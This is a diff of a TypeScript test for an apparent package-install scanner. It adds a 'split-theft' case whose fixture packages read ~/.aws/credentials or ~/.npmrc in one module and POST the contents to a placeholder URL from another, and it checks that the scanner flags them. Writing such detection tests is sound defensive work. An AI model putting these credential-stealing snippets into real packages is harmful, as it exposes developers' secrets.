@@ -40,6 +40,29 @@ describe('checks/package/install-behaviour', () => {
     ]);
   });
 
+  it('joins two files where a third, which takes nothing itself, hands on: split-theft', async () => {
+    const inPython = (argument: string): Promise<readonly string[]> =>
+      inWheel({
+        'colorkit/__init__.py': `from .a import load\nfrom .b import send\nsend(${argument})\n`,
+        'colorkit/a.py':
+          'from pathlib import Path\ndef load():\n  return Path.home().joinpath(".aws", "credentials").read_text()\n',
+        'colorkit/b.py': `import requests\ndef send(x):\n  requests.post('${U}', data=x)\n`,
+      });
+    const inScript = (index: string): Promise<readonly string[]> =>
+      inNpm({
+        'index.js': index,
+        'lib/grab.js':
+          'const fs=require("fs"),os=require("os"),p=require("path");exports.grab=()=>fs.readFileSync(p.join(os.homedir(),".npmrc"),"utf8");',
+        'lib/post.js': `module.exports=b=>fetch("${U}",{method:"POST",body:b});`,
+      });
+    const loads = 'const {grab}=require("./lib/grab");const post=require("./lib/post");';
+
+    expect(await inPython('load()')).toHaveLength(1);
+    expect(await inPython('"hello"')).toEqual([]);
+    expect(await inScript(`${loads}post(grab());`)).toHaveLength(1);
+    expect(await inScript(`${loads}const d=grab();post("hello");`)).toEqual([]);
+  });
+
   it('follows a setup.py into the modules it imports', async () => {
     const found = await inSdist({
       'setup.py':
